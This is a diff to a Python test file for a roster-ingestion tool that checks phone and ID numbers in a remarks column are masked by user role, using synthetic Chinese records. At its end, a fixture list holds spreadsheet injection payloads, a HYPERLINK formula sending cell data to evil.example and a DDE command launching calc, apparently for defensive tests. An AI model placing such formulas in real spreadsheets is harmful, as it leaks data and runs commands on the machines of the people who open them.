@@ -89,6 +89,30 @@ def test_a_role_without_personal_data_gets_names_and_phones_masked(county):
     assert not CLEAR_ID.search(text)
 
 
+def test_numbers_typed_into_other_cells_leave_masked_too(write_xlsx, tmp_path):
+    """A 备注 with a relative's phone and an ID: the ID masked for every role, the phone for a
+    role without personal data (the name, phone and ID columns were masked already)."""
+    note = f"家属电话13722223333，身份证{valid_id('33032719650505432')}"
+    rows = [
+        member(1, "钱一鸣", township=QK, id_number="123") + [note],
+        member(2, "钱二妹", township=QK, id_number=valid_id("33032719800101002")) + [None],
+    ]
+    path = write_xlsx("钱库镇_2022-04_名册.xlsx", {"名册": [[*HEADER, "备注"], *rows]})
+    db = tmp_path / "n.duckdb"
+    [result] = ingest_paths([path], db=db).files
+    assert result.rows_rejected == 1
+    analyst = "\n".join(
+        cells(build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("analyst"))[0])
+    )
+    town = "\n".join(
+        cells(build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("township", QK))[0])
+    )
+    assert "家属电话137****3333" in analyst and "13722223333" not in analyst
+    assert "家属电话13722223333" in town  # the township sees its members' numbers
+    for text in (analyst, town):
+        assert not CLEAR_ID.search(text) and "身份证330327********" in text
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?q="&B2,"点击")',
     "=cmd|' /C calc'!A0",
